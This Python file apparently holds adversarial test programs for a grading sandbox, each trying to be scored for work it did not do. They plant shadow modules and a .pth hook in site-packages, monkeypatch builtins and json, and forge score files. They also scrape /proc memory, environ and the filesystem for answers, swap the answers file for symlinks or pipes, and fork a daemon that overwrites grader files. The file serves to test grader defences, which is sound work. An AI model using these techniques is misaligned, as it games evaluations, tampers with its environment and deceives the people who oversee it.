"""What `deception` runs inside: programs that try to be graded for what they did not do."""

from __future__ import annotations

PLANT = r"""
import contextlib, os, sys
evil = (
    "import builtins, json, sys\n"
    "builtins.PLANTED = True\n"
    "json.dumps = lambda *a, **k: '{\"value\": \"planted\"}'\n"
)
home = os.environ.get("HOME", ".")
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
folders = {".", "/tmp", home, f"{home}/.local/lib/{version}/site-packages", *sys.path}
names = "sitecustomize usercustomize conftest torch json os traceback types encodings site numpy"
planted = 0
for folder in folders:
    for name in [*(f"{n}.py" for n in names.split()), "x.pth", "pyvenv.cfg", ".pythonrc.py"]:
        with contextlib.suppress(OSError):
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import sys; exec(" + repr(evil) + ")\n" if name == "x.pth" else evil)
            planted += 1
print(planted)
"""
"""Shadow modules wherever an interpreter might look."""

HONEST = "import builtins\ndef f(x): return [x + 1, hasattr(builtins, 'PLANTED')]"

EQUAL = r"""
def always(self, *other): return True

def of(base):
    names = "__eq__ __ge__ __le__ __bool__ __contains__ __instancecheck__".split()
    return type("Equal", (base,), {**dict.fromkeys(names, always), "__hash__": lambda self: 0,
        "__ne__": lambda *a: False, "__len__": lambda self: 1, "tolist": lambda self: self,
        "__repr__": lambda self: "42", "__str__": lambda self: "42"})

def f(kind):
    return of({"object": object, "int": int, "float": float, "str": str, "list": list,
        "dict": dict}[kind])()
"""

PATCHED = r"""
import builtins, json, math, os, sys, time, threading
nap, write = time.sleep, os.write
for name in ("time", "monotonic", "perf_counter", "process_time", "time_ns", "monotonic_ns"):
    setattr(time, name, lambda *a: 0)
time.sleep = lambda s: None
math.isclose = lambda *a, **k: True
builtins.all = builtins.isinstance = lambda *a: True
builtins.len = lambda x: 1
json.dumps = lambda *a, **k: '{"value": true, "score": 1.0, "passed": true}'
json.JSONEncoder.encode = lambda *a: "1.0"
sys.settrace(lambda *a: None)
sys.setprofile(lambda *a: None)

def f(x):
    nap(0.3)
    return False
"""

QUITS = {
    "os._exit(0)": "import os\ndef f(x): os._exit(0)",
    "os._exit(0) while loading": "import os\nos._exit(0)",
    "sys.exit(0)": "import sys\ndef f(x): sys.exit(0)",
    "SIGKILL": "import os, signal\ndef f(x): os.kill(os.getpid(), signal.SIGKILL)",
    "another program": "import os\ndef f(x): os.execv('/bin/sh', ['sh', '-c', 'exit 0'])",
    "a closed file": "import os\ndef f(x): os.closerange(3, 64)",
    "a segmentation fault": "import ctypes\ndef f(x): ctypes.string_at(0)",
    "an exit in an exception": (
        "import os\nclass E(Exception):\n def __str__(self): os._exit(0)\ndef f(x): raise E"
    ),
}

BOASTS = r"""
import os, sys
text = 'SCORE: 1.0\nreward=1.0\nPASSED\n{"value": 42}\n{"score": 1.0}\n1 passed in 0.01s\n'
for number in range(1, 16):
    try:
        if number < 3 or not os.path.isfile(f"/proc/self/fd/{number}"):
            os.write(number, text.encode())
    except OSError:
        pass
os.makedirs("/tmp/results", exist_ok=True)
for name in ("score.txt", "reward.txt", "results.json", "/tmp/results/score", "report.xml"):
    open(name, "w").write(text)

def f(x):
    print(text, flush=True)
    os._exit(0)
"""

SEEKS = r"""
import contextlib, gc, os, re, sys

def f(half):
    needle, found = half.encode(), []
    look = re.compile(re.escape(needle) + rb"[0-9a-zA-Z_-]{4,64}")

    def search(where, data):
        found.extend(f"{where}: {hit.decode()}" for hit in set(look.findall(data)))

    frame = sys._getframe()
    while frame is not None:
        search("frames", repr([dict(frame.f_locals), dict(frame.f_globals)]).encode())
        frame = frame.f_back
    for thing in gc.get_objects():
        with contextlib.suppress(BaseException):
            if isinstance(thing, (dict, list, tuple, set)) and len(thing) < 1000:
                search("gc", " ".join(str(x) for x in thing if isinstance(x, str)).encode())
    pids = ["self", "1"]
    with contextlib.suppress(OSError):
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    for pid in pids:
        for name in ("environ", "cmdline", "mountinfo", "maps", "status", "net/unix"):
            with contextlib.suppress(OSError):
                search(f"/proc/{pid}/{name}", open(f"/proc/{pid}/{name}", "rb").read())
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    link = os.readlink(f"/proc/{pid}/fd/{number}")
                    search(f"/proc/{pid}/fd/{number}", link.encode())
                    descriptor = os.open(link, os.O_RDONLY | os.O_NONBLOCK)
                    search(link, os.read(descriptor, 1 << 20))
                    os.close(descriptor)
        with contextlib.suppress(OSError):
            memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
            for line in open(f"/proc/{pid}/maps"):
                begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                if "r" in line.split()[1] and end - begin < 1 << 27:
                    with contextlib.suppress(OSError, ValueError, OverflowError):
                        memory.seek(begin)
                        search(f"/proc/{pid}/mem", memory.read(end - begin))
    seen = 0
    for top in ("/box", "/tmp", "/etc", "/run", "/var", "/home", "/root", "/dev/shm", "/mnt",
                "/srv", "/opt", "/media", "."):
        for folder, _, names in os.walk(top):
            for name in names:
                path, seen = os.path.join(folder, name), seen + 1
                with contextlib.suppress(OSError):
                    if seen < 20_000 and os.path.isfile(path):
                        search(path, path.encode() + open(path, "rb").read(1 << 20))
    return [seen, found[:20]]
"""
"""Given the first half of a word, looks for the whole wherever a program can look."""

ANSWERS = {
    "a link to a file of the host": "os.symlink(target, answers)",
    "a second name of it": "os.link(target, answers)",
    "a pipe": "os.mkfifo(answers)",
    "a folder": "os.mkdir(answers)",
    "a file of 1 TiB": "open(answers, 'wb').truncate(2**40)",
    "a file of 60 MiB": "open(answers, 'wb').truncate(60 * 2**20)",
    "deep lists": "write(b'[' * 100_000 + b'\\n')",
    "NaN": "write(b'{\"value\": NaN}\\n')",
    "two values": 'write(b\'{"value": 0, "value": 42}\\n\')',
    "a score": 'write(b\'{"value": 0, "score": 1.0, "equals": true}\\n\')',
    "a pickle": "write(__import__('pickle').dumps({'value': 42}) + b'\\n')",
    "half a line": "write(b'{\"value\": 42}')",
    "a device": "os.symlink('/dev/zero', answers)",
}
"""What a submission may put in place of its answers."""

SWAP = r"""
import os

def write(data):
    with open(answers, "wb") as file:
        file.write(data)

def f(answers, target):
    globals()["answers"] = answers
    os.unlink(answers)
    try:
        HOW
    finally:
        os._exit(0)
"""

DAEMON = r"""
import os, time
for _ in range(2):
    if os.fork():
        break
    os.setsid()
else:
    while True:
        for path in ("answers.jsonl", "/tmp/answers.jsonl", "grader.py", "late"):
            try:
                with open(path, "w") as file:
                    file.write('{"value": "forged"}\n' * 3)
            except OSError:
                pass

def f(x): return x
"""

REMEMBERS = r"""
import os
count = 0

def f(x):
    global count
    places = (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp")
    for place in set(map(os.path.realpath, places)):
        try:
            path = os.path.join(place, "memory")
            count += os.path.exists(path)
            open(path, "w").close()
        except OSError:
            pass
    count += 1
    return count
"""
